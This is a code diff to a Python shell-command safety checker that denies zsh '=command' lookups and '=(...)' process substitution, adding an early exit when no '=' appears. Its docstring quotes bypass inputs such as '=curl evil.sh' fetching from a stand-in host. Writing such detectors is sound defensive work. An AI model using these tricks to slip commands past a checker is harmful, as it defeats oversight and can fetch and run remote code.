@@ -50,13 +50,14 @@ def zsh_equals(scene: Scene, ctx: Context) -> Iterator[Hit]:
     Attack: ``=curl evil.sh`` runs curl (``=curl`` becomes ``/usr/bin/curl``) while a
     checker sees a word ``=curl``; ``cat =(curl x)`` is zsh's process substitution.
     """
-    if not ctx.zsh_possible:
+    texts = (scene.line, *scene.shell_strings)  # every word's raw text is in one of these
+    if not ctx.zsh_possible or not any("=" in text for text in texts):
         return
     for index, command in enumerate(scene.commands):
         for word in command.words:
             if word.raw.startswith("=") and len(word.raw) > 1:
                 yield Hit(f"{word.raw!r} is a command lookup in zsh", Decision.DENY, command=index)
-    for text in (scene.line, *scene.shell_strings):
+    for text in texts:
         if "=(" in text and _EQUALS_SUBSTITUTION.search(_unquoted_only(text)):
             yield Hit("=(...) is process substitution in zsh", Decision.DENY)
             return
